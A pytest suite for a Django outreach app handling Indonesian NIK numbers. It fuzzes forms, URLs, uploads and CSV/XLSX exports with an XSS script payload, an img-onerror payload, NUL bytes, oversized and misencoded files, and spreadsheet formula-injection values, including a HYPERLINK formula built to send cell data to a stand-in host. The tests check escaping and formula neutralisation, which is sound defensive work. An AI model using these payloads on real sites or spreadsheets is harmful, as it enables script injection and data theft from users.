"""Hostile and malformed input: property-based checks of the NIK rules and the progress
computation, then every form and import fed oversized, badly encoded, HTML and
spreadsheet-formula values. Each must get a clear Indonesian message, or be stored and
shown escaped; nothing may answer 500, and no export may hand a spreadsheet a formula.
"""

from __future__ import annotations

import csv
import datetime
import io
import math
import uuid
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from outreach import counts, services
from outreach.models import Activation, CloseOut, Session, Venue, VenueType
from outreach.nik import NikCheck, check_nik
from outreach.progress import AT_RISK_SHARE, Status, progress_for, working_days
from partners.models import Partner
from regions.models import OfficialFigure, Population, Target

SCRIPT = '<script>alert("jb")</script>'
TAG = '"><img src=x onerror=alert(1)>'  # for a URL segment, where "/" cannot go
LONG = "x" * 10_000
FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+1", "-1", "@SUM(A1:A9)"]
FAST = settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
SESSION_DAY = datetime.date(2025, 11, 24)
KNOWN = {"33", "33.24", "33.24.08"}


def known_codes(codes):
    return KNOWN & set(codes)


# ---- NIK ----------------------------------------------------------------------------------------------


@FAST
@given(raw=st.one_of(
    st.text(),
    st.text(alphabet="0123456789 -.²³¹٣۳３٠", min_size=10, max_size=24),  # digits of every kind
    st.from_regex(r"\A[0-9]{16}\Z"),
), service=st.sampled_from(["ikd", "ektp", "kia"]), married=st.booleans())
@example(raw="332408²²05900001", service="ikd", married=False)  # isdigit() but not int()
@example(raw="３３２４０８５００５９００００１", service="ikd", married=False)  # full-width digits
def test_check_nik_never_raises_and_always_explains_a_refusal(raw, service, married):
    result = check_nik(raw, on=SESSION_DAY, service=service, married=married, known_codes=known_codes)
    assert isinstance(result, NikCheck)
    if result.ok:
        assert result.nik is not None and result.nik.digits.isascii() and len(result.nik.digits) == 16
    else:
        assert result.nik is None and all(isinstance(error, str) and error.strip() for error in result.errors)


@FAST
@given(day=st.integers(1, 71), month=st.integers(0, 13), year=st.integers(0, 99), serial=st.integers(0, 9999),
       service=st.sampled_from(["ikd", "ektp", "kia"]), married=st.booleans())
def test_a_16_digit_nik_with_a_known_kecamatan_is_accepted_or_refused_in_words(day, month, year, serial, service, married):
    digits = f"332408{day:02d}{month:02d}{year:02d}{serial:04d}"
    result = check_nik(digits, on=SESSION_DAY, service=service, married=married, known_codes=known_codes)
    if result.ok:
        assert result.nik.district_code == "33.24.08" and result.nik.last4 == f"{serial:04d}"
    else:
        assert result.errors and all("NIK" in error or "KIA" in error or "Umur" in error for error in result.errors)


@FAST
@given(born=st.dates(min_value=SESSION_DAY.replace(year=SESSION_DAY.year - 99) + datetime.timedelta(days=1),
                     max_value=SESSION_DAY),
       female=st.booleans(), serial=st.integers(1, 9999))
def test_a_nik_built_from_a_birth_date_sex_and_serial_reads_back_the_same(born, female, serial):
    day = born.day + (40 if female else 0)
    digits = f"332408{day:02d}{born.month:02d}{born.year % 100:02d}{serial:04d}"
    age = SESSION_DAY.year - born.year - ((SESSION_DAY.month, SESSION_DAY.day) < (born.month, born.day))
    service = "ikd" if age >= 17 else "kia"
    typed = f"{digits[:6]} {digits[6:12]}-{digits[12:]}"  # grouped as people type it
    result = check_nik(typed, on=SESSION_DAY, service=service, married=False, known_codes=known_codes)
    assert result.ok, result.errors
    assert result.nik.birth_date == born and result.nik.female is female and result.nik.digits == digits


# ---- Progress -----------------------------------------------------------------------------------------

AS_OF = datetime.date(2025, 9, 15)


@FAST
@given(
    base=st.integers(1, 2_000_000),
    official=st.one_of(st.none(), st.integers(0, 2_500_000)),
    official_days_before=st.integers(1, 200),
    successes=st.lists(st.tuples(st.integers(0, 120), st.integers(1, 5_000)), max_size=8),
    percent=st.integers(1, 100),
    due_days_after=st.integers(-30, 400),
)
def test_progress_stays_within_its_bounds(village, base, official, official_days_before, successes, percent,
                                          due_days_after):
    with transaction.atomic():
        Population.objects.create(region=village, as_of=datetime.date(2025, 1, 1), wajib_ktp=base)
        official_day = AS_OF - datetime.timedelta(days=official_days_before)
        if official is not None:
            OfficialFigure.objects.create(region=village, indicator="ikd", as_of=official_day, count=official)
        due = AS_OF + datetime.timedelta(days=due_days_after)
        Target.objects.create(region=village, year=2025, indicator="ikd", percent=percent, due=due)
        for days_before, count in successes:
            counts.add({(village.pk, "ikd", "success", "", AS_OF - datetime.timedelta(days=days_before)): count})

        [item] = progress_for([village], indicator="ikd", year=2025, as_of=AS_OF)
        transaction.set_rollback(True)

    after = official_day if official is not None else None
    added = sum(count for days_before, count in successes
                if after is None or AS_OF - datetime.timedelta(days=days_before) > after)
    assert item.achieved == (official or 0) + added
    exact = Decimal(item.achieved) * 100 / Decimal(base)
    assert 0 <= item.coverage_percent and abs(item.coverage_percent - exact) <= Decimal("0.005")
    assert item.remaining is not None and item.remaining >= 0
    assert item.remaining == max(item.target_count - item.achieved, 0)
    assert item.working_days_left == working_days(AS_OF, due)
    if item.working_days_left:
        assert item.required_per_day * item.working_days_left >= item.remaining
        assert item.required_per_day == math.ceil(item.remaining / item.working_days_left)
    pace = item.pace_per_week
    if item.remaining == 0:
        assert item.status == Status.REACHED
    elif not item.working_days_left:
        assert item.status == Status.BEHIND
    elif pace >= item.required_per_week:
        assert item.status == Status.ON_TRACK
    elif pace >= item.required_per_week * AT_RISK_SHARE:
        assert item.status == Status.AT_RISK
    else:
        assert item.status == Status.BEHIND


# ---- HTML and <script> in names and notes: stored, shown escaped ----------------------------------------


def page(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def assert_escaped(html: str, where: str) -> None:
    assert SCRIPT not in html, f"{where}: <script> tampil mentah"
    assert "<script>alert" not in html, where


def test_script_in_venue_session_notes_close_out_and_failure_notes_is_shown_escaped(
    client_for, staff, operator, manager, session, venue, make_partner
):
    venue.name = f"Balai {SCRIPT}"
    venue.address = SCRIPT
    venue.save()
    partner = make_partner(business_name=f"Warung {SCRIPT}", address=SCRIPT, owner_name=SCRIPT)
    client = client_for(staff)
    form = {"venue": venue.pk, "date": session.date.isoformat(), "start_time": "13:00", "end_time": "15:00",
            "team": session.team_id, "offers_ikd": "on", "public": "yes", "notes": f"Bawa {SCRIPT}",
            "expected_participants": "40"}
    response = client.post(reverse("outreach:create"), form)
    assert response.status_code == 302, response.content.decode()[:2000]
    created = Session.objects.get(notes=f"Bawa {SCRIPT}")
    # The operator logs a failure with an HTML note, then closes with HTML notes.
    op = Client()
    op.force_login(operator)
    response = op.post(reverse("outreach:log", kwargs={"pk": created.pk}), {
        "service": "ikd", "nik": "3324085005900001", "result": "other", "failure_note": SCRIPT,
        "idempotency_key": str(uuid.uuid4()),
    })
    assert response.status_code == 302, response.content.decode()[:3000]
    assert Activation.objects.filter(failure_note=SCRIPT).exists()
    response = op.post(reverse("outreach:close", kwargs={"pk": created.pk}), {"actual_participants": "3", "notes": SCRIPT})
    assert response.status_code == 302
    assert CloseOut.objects.get(session=created).notes == SCRIPT
    pages = {
        "detail": reverse("outreach:detail", kwargs={"pk": created.pk}),
        "results": reverse("outreach:results", kwargs={"pk": created.pk}),
        "list": reverse("outreach:list") + "?semua=1",
        "calendar": reverse("outreach:calendar") + f"?minggu={created.date.isoformat()}",
        "mine": reverse("outreach:mine"),
        "partners": reverse("partners:list"),
        "admin venues": reverse("admin:outreach_venue_changelist"),
        "admin partner": reverse("admin:partners_partner_change", kwargs={"object_id": partner.pk}),
        "home": reverse("home"),
    }
    for name, url in pages.items():
        html = page(client.get(url))
        assert_escaped(html, name)
    assert "&lt;script&gt;" in page(client.get(pages["detail"]))
    assert "&lt;script&gt;" in page(client.get(pages["results"]))
    # The operator's own page and the public pages.
    assert_escaped(page(op.get(reverse("outreach:log", kwargs={"pk": session.pk}))), "log")
    anonymous = Client()
    for url in (reverse("outreach:public_regency", kwargs={"code": "33.24"}), reverse("outreach:public_index"),
                reverse("partners:directory")):
        html = page(anonymous.get(url))
        assert_escaped(html, url)
    assert "Warung &lt;script&gt;" in page(anonymous.get(reverse("partners:directory")))


@pytest.mark.parametrize("url, params", [
    ("partners:directory", {"kecamatan": SCRIPT, "sektor": SCRIPT, "kartu": SCRIPT}),
    ("partners:directory", {"kecamatan": "33.24.08\x00", "sektor": "\x00"}),
    ("outreach:public_index", {"x": SCRIPT}),
    ("regions:search", {"q": SCRIPT, "level": "3"}),
    ("regions:search", {"q": "Kali\x00wungu"}),
    ("regions:search", {"q": "33\x00"}),
    ("outreach:list", {"region": SCRIPT, "team": "x", "status": SCRIPT, "service": SCRIPT}),
    ("outreach:list", {"region": "33.24\x00", "semua": "1"}),
    ("outreach:calendar", {"minggu": "2025-02-30"}),
    ("outreach:calendar", {"bulan": "2025-13"}),
    ("outreach:calendar", {"bulan": SCRIPT}),
    ("outreach:calendar", {"minggu": "9999-12-31"}),
    ("outreach:create", {"tanggal": SCRIPT}),
])
def test_hostile_query_strings_never_break_a_page(client_for, staff, session, url, params):
    response = client_for(staff).get(reverse(url), params)
    assert response.status_code in (200, 302, 400, 404), response.status_code
    if response.status_code == 200:
        assert_escaped(response.content.decode(), url)


@pytest.mark.parametrize("name, kwargs, params", [
    ("outreach:public_regency", {"code": "33.24"}, {"kecamatan": SCRIPT}),
    ("outreach:public_regency", {"code": "33.24"}, {"kecamatan": "33.24.08\x00"}),
    ("outreach:public_regency", {"code": TAG}, {}),
    ("outreach:public_ics", {"code": "33.24\x00"}, {}),
    ("outreach:team_ics", {"token": TAG}, {}),
    ("regions:detail", {"code": "33.24.08"}, {"tahun": "99999999999999999999", "urut": SCRIPT}),
    ("regions:detail", {"code": "33\x00"}, {}),
    ("outreach:dashboard", {"code": "33.24.08"}, {"tanggal": "2025-02-30", "tahun": "-1", "indikator": SCRIPT}),
    ("outreach:dashboard", {"code": "33.24.08"}, {"tanggal": "99999-01-01", "unduh": SCRIPT, "tabel": SCRIPT}),
    ("outreach:dashboard_chart", {"code": "33.24.08", "kind": TAG}, {}),
    ("outreach:summary_list", {"code": "33.24.08"}, {"halaman": SCRIPT}),
    ("partners:export", {"what": TAG, "fmt": "csv"}, {}),
    ("outreach:dashboard", {"code": TAG}, {}),
    ("outreach:dashboard", {"code": "33.24\x00"}, {}),
    ("outreach:summary_list", {"code": "33.24\x00"}, {}),
    ("admin:outreach_venue_changelist", {}, {"q": "Balai\x00"}),
    ("admin:partners_partner_changelist", {}, {"q": "\x00", "sector": "\x00"}),
    ("admin:regions_region_changelist", {}, {"q": "33\x00"}),
    ("regions:detail", {"code": TAG}, {}),
])
def test_hostile_paths_and_parameters_answer_without_a_server_error(client_for, superuser, name, kwargs, params):
    response = client_for(superuser).get(reverse(name, kwargs=kwargs), params)
    assert response.status_code in (200, 302, 400, 404), response.status_code
    if response.status_code == 200 and response["Content-Type"].startswith("text/html"):
        assert_escaped(response.content.decode(), name)
        assert "<img src=x" not in response.content.decode()


# ---- Very long values ----------------------------------------------------------------------------------


def errors_of(response) -> str:
    assert response.status_code == 200, response.status_code
    html = response.content.decode()
    assert any(mark in html for mark in ("invalid-feedback", "errorlist", "alert-danger", "text-danger")), html[:2000]
    return html


def test_ten_thousand_characters_get_a_message_in_indonesian(client_for, staff, operator, session, venue, kendal):
    client = client_for(staff)
    # The NIK and the failure note have limits: a clear message, nothing stored.
    op = Client()
    op.force_login(operator)
    log = reverse("outreach:log", kwargs={"pk": session.pk})
    html = errors_of(op.post(log, {"service": "ikd", "nik": LONG, "result": "other", "failure_note": LONG,
                                   "idempotency_key": str(uuid.uuid4())}))
    assert "NIK harus 16 angka — periksa kembali kartu." in html and "paling banyak 200 karakter" in html
    assert not Activation.objects.exists()
    # Postponing or cancelling with a 10,000-character reason.
    for action in ("outreach:postpone", "outreach:cancel"):
        html = errors_of(client.post(reverse(action, kwargs={"pk": session.pk}),
                                     {"reason": LONG, "new_date": (session.date + datetime.timedelta(days=7)).isoformat()}))
        assert "paling banyak 250 karakter" in html
    # Admin forms: venue name and partner business name.
    html = errors_of(client.post(reverse("admin:outreach_venue_add"), {
        "name": LONG, "type": VenueType.KANTOR_DESA, "village": session.venue.village_id, "address": LONG,
        "is_active": "on", "capacity": "", "contact_name": LONG, "contact_phone": LONG,
    }))
    assert "paling banyak 150 karakter" in html
    assert Venue.objects.count() == 1
    html = errors_of(client.post(reverse("admin:partners_partner_add"), {
        "business_name": LONG, "owner_name": LONG, "sector": "kuliner", "address": LONG, "village": venue.village_id,
        "whatsapp": LONG, "nib": LONG, "is_active": "on",
        "recaps-TOTAL_FORMS": "0", "recaps-INITIAL_FORMS": "0", "recaps-MIN_NUM_FORMS": "0", "recaps-MAX_NUM_FORMS": "1000",
    }))
    assert "paling banyak 150 karakter" in html
    assert not Partner.objects.exists()


def test_long_session_notes_and_close_out_notes_are_stored_or_refused_never_a_500(client_for, staff, operator, session, venue):
    client = client_for(staff)
    form = {"venue": venue.pk, "date": session.date.isoformat(), "start_time": "13:00", "end_time": "15:00",
            "team": session.team_id, "offers_ikd": "on", "public": "auto", "notes": LONG, "expected_participants": LONG}
    html = errors_of(client.post(reverse("outreach:create"), form))
    assert "Masukkan keseluruhan angka bilangan" in html  # expected_participants
    form["expected_participants"] = "99999999999999999999"
    response = client.post(reverse("outreach:create"), form)
    assert response.status_code in (200, 302)
    form["expected_participants"] = "40"
    response = client.post(reverse("outreach:create"), form)
    if response.status_code == 302:
        assert Session.objects.filter(notes=LONG).exists()
    else:
        errors_of(response)
    op = Client()
    op.force_login(operator)
    close = reverse("outreach:close", kwargs={"pk": session.pk})
    html = errors_of(op.post(close, {"actual_participants": "10" * 50, "notes": LONG}))
    assert "lebih kecil dari atau sama dengan 100000" in html
    response = op.post(close, {"actual_participants": "10", "notes": LONG})
    if response.status_code == 302:
        assert CloseOut.objects.get(session=session).notes == LONG
    else:
        errors_of(response)


# ---- Uploads: wrong encodings, damaged files, hostile cells ----------------------------------------------

POPULATION_CSV = "region_code,as_of,population,wajib_ktp,children\n33.24.08,2025-04-25,90000,65000,22000\n"


def upload(name: str, content: bytes, content_type="text/csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


BAD_FILES = [
    ("utf16.csv", POPULATION_CSV.encode("utf-16")),  # with its BOM
    ("utf16le.csv", POPULATION_CSV.encode("utf-16-le")),  # without: NULs once read as UTF-8
    ("latin1.csv", (POPULATION_CSV + "33.24.08.2003,2025-04-25,1,1,1,Kecamatan Weleri Caf\u00e9\n").encode("latin-1")),
    ("rusak.xlsx", b"PK\x03\x04 bukan berkas xlsx"),
    ("kosong.csv", b""),
    ("kutip.csv", b'region_code,as_of\n"33.24.08,2025'),
    ("sampah.csv", bytes(range(256)) * 40),
]


@pytest.mark.parametrize("name, content", BAD_FILES, ids=[name for name, _content in BAD_FILES])
def test_the_figures_upload_refuses_unreadable_files_in_indonesian(client_for, staff, name, content):
    response = client_for(staff).post(reverse("regions:figures_upload"), {"kind": "population", "file": upload(name, content)})
    html = errors_of(response)
    assert any(words in html for words in ("UTF-8", "XLSX tidak dapat dibaca", "berkas kosong", "tanda kutip",
                                           "berkas ini kosong", "Berkas yang dikirim kosong", "kolom"))
    assert not Population.objects.exists()


@pytest.mark.parametrize("text, as_of", [
    ("", ""),
    ("\x00\x00", ""),
    ('"', ""),
    (POPULATION_CSV, "2025-02-30"),
    (f"region_code,as_of,population\n{SCRIPT},2025-01-01,{SCRIPT}\n", ""),
])
def test_a_tampered_figures_confirmation_is_refused_without_a_server_error(client_for, staff, text, as_of):
    response = client_for(staff).post(reverse("regions:figures_upload"),
                                      {"confirm": "1", "kind": "population", "text": text, "as_of": as_of})
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 302:  # back to the upload form, with a message
        response = client_for(staff).get(response["Location"])
        assert "Unggah berkasnya sekali lagi" in response.content.decode()
    assert_escaped(response.content.decode(), "figures confirm")
    assert not Population.objects.exists()


def test_html_in_an_uploaded_figures_file_is_shown_escaped(client_for, staff):
    content = f"region_code,as_of,population,wajib_ktp,children,source\n{SCRIPT},2025-04-25,1,1,1,{SCRIPT}\n".encode()
    response = client_for(staff).post(reverse("regions:figures_upload"), {"kind": "population", "file": upload("f.csv", content)})
    html = page(response)
    assert_escaped(html, "figures preview")


@pytest.mark.parametrize("name, content", BAD_FILES[:3] + BAD_FILES[4:5], ids=["utf16", "utf16le", "latin1", "kosong"])
def test_the_accounts_import_refuses_wrong_encodings_in_indonesian(client_for, staff, name, content):
    response = client_for(staff).post(reverse("regions:accounts_import"), {"file": upload(name, content)})
    html = errors_of(response)
    assert "UTF-8" in html or "Pilih berkas CSV" in html or "kosong" in html


def test_the_accounts_import_shows_hostile_names_escaped_and_refuses_them(client_for, staff, kaliwungu):
    content = (f"username,nama,email,wilayah\n{SCRIPT},{SCRIPT},{SCRIPT},33.24.08\n"
               f"{LONG},{LONG},a@b.id,{SCRIPT}\n=HYPERLINK(\"x\"),+1,-1,@SUM(A1)\n").encode()
    response = client_for(staff).post(reverse("regions:accounts_import"), {"file": upload("akun.csv", content)})
    html = page(response)
    assert_escaped(html, "accounts preview")
    response = client_for(staff).post(reverse("regions:accounts_import"), {"text": content.decode(), "confirm": "1"})
    assert response.status_code == 200
    from regions.models import User

    assert not User.objects.filter(username__contains="<").exists()


@pytest.mark.parametrize("name, content", [
    ("hasil.csv", "nik,service,outcome\n3324085005900001,ikd,success\n".encode("utf-16")),
    ("hasil.csv", "nik,service,outcome\n3324085005900001,ikd,sukses \u00e9\n".encode("latin-1")),
    ("hasil.xlsx", b"PK\x03\x04 rusak"),
    ("hasil.csv", b""),
    ("hasil.txt", b"nik,service,outcome\n"),
])
def test_the_activation_import_refuses_unreadable_files_in_indonesian(client_for, staff, session, name, content):
    response = client_for(staff).post(reverse("outreach:activation_import"), {"file": upload(name, content),
                                                                              "session": session.pk})
    html = errors_of(response)
    assert any(words in html for words in ("UTF-8", "XLSX", "kosong", ".csv atau .xlsx", "kolom"))
    assert not Activation.objects.exists()


def test_the_activation_import_rejects_file_is_formula_safe_and_masked(client_for, staff, session):
    rows = ["nik,service,outcome,failure_reason,date,married,village_code,session"]
    for formula in FORMULAS:
        rows.append(f'3324085005900001,"{formula.replace(chr(34), chr(34) * 2)}",success,,,,,{session.pk}')
    rows.append(f"{SCRIPT},ikd,{SCRIPT},,,,,{session.pk}")
    client = client_for(staff)
    response = client.post(reverse("outreach:activation_import"),
                           {"file": upload("hasil.csv", "\n".join(rows).encode()), "session": session.pk})
    html = page(response)
    assert_escaped(html, "activation import")
    token = response.context["rejects_token"]
    rejects = client.get(reverse("outreach:activation_import"), {"ditolak": token})
    text = b"".join(rejects.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells), cells
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert "3324085005900001" not in text


# ---- Exports: formulas are prefixed with a quote -------------------------------------------------------


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [str(cell) for row in sheet.iter_rows(values_only=True) for cell in row if cell is not None]


def assert_formula_safe(cells: list[str], where: str) -> None:
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@"), f"{where}: {cell!r}"
    for formula in FORMULAS:
        assert "'" + formula in cells, f"{where}: {formula!r} hilang"


def test_partner_exports_prefix_formulas_with_a_quote(client_for, staff, make_partner):
    make_partner(business_name=FORMULAS[0], owner_name=FORMULAS[1], address=FORMULAS[2], nib="", whatsapp="6281234567890")
    make_partner(business_name=FORMULAS[3], owner_name=SCRIPT, address="y" * 250)
    client = client_for(staff)
    for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = client.get(reverse("partners:export", kwargs={"what": "mitra", "fmt": fmt}))
        assert response.status_code == 200
        assert_formula_safe(read(response.content), f"mitra.{fmt}")
        for what in ("pks", "rekap"):
            response = client.get(reverse("partners:export", kwargs={"what": what, "fmt": fmt}))
            assert response.status_code == 200, (what, fmt)
            for cell in read(response.content):
                assert cell[:1] not in ("=", "+", "-", "@"), (what, fmt, cell)


def test_dashboard_downloads_prefix_formulas_with_a_quote(client_for, manager, staff, team, village, private_media):
    today = timezone.localdate()
    for hour, formula in enumerate(FORMULAS, start=8):
        venue = Venue.objects.create(name=formula, type=VenueType.KANTOR_DESA, village=village)
        services.session_create(actor=staff, venue=venue, team=team, date=today - datetime.timedelta(days=3),
                                start_time=datetime.time(hour), end_time=datetime.time(hour, 30))
    client = client_for(manager)
    url = reverse("outreach:dashboard", kwargs={"code": "33.24.08"})
    for fmt, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        response = client.get(url, {"unduh": fmt, "tabel": "belum-lapor"})
        assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
        assert_formula_safe(read(response.content), f"belum-lapor.{fmt}")
    assert "HYPERLINK" in page(client.get(url))  # shown on the page as the text it is


def test_agreement_admin_refuses_long_values_and_shows_html_escaped(client_for, staff, kendal, make_partner, private_media):
    partner = make_partner(business_name=f"Toko {SCRIPT}")
    client = client_for(staff)
    form = {
        "office": kendal.pk, "partner": partner.pk, "number": LONG, "title": LONG, "valid_from": "2026-01-01",
        "valid_until": "2026-12-31", "office_signatory": LONG, "partner_signatory": SCRIPT,
        "termination_reason": LONG,
        "benefits-TOTAL_FORMS": "0", "benefits-INITIAL_FORMS": "0", "benefits-MIN_NUM_FORMS": "0",
        "benefits-MAX_NUM_FORMS": "1000",
    }
    before = partner.agreements.count()
    html = errors_of(client.post(reverse("admin:partners_agreement_add"), form))
    assert "paling banyak 60 karakter" in html and "paling banyak 200 karakter" in html
    assert_escaped(html, "agreement add")
    assert partner.agreements.count() == before
    # A document that is not a PDF, with a hostile name: refused in Indonesian.
    form.update(number="PKS/99", title=SCRIPT, office_signatory="Kadis", termination_reason="",
                document=SimpleUploadedFile(f"{SCRIPT}.pdf", b"<html>" + LONG.encode(), content_type="application/pdf"))
    html = errors_of(client.post(reverse("admin:partners_agreement_add"), form))
    assert "Dokumen harus berkas PDF." in html
    assert_escaped(html, "agreement document")
    # Stored with HTML in its title and signatory, every admin page shows it escaped.
    form["document"] = SimpleUploadedFile("pks.pdf", b"%PDF-1.4\n%%EOF", content_type="application/pdf")
    response = client.post(reverse("admin:partners_agreement_add"), form)
    assert response.status_code == 302, response.content.decode()[:3000]
    agreement = partner.agreements.get(number="PKS/99")
    for url in (reverse("admin:partners_agreement_changelist"),
                reverse("admin:partners_agreement_change", kwargs={"object_id": agreement.pk}),
                reverse("admin:partners_agreement_history", kwargs={"object_id": agreement.pk}),
                reverse("partners:list")):
        assert_escaped(page(client.get(url)), url)
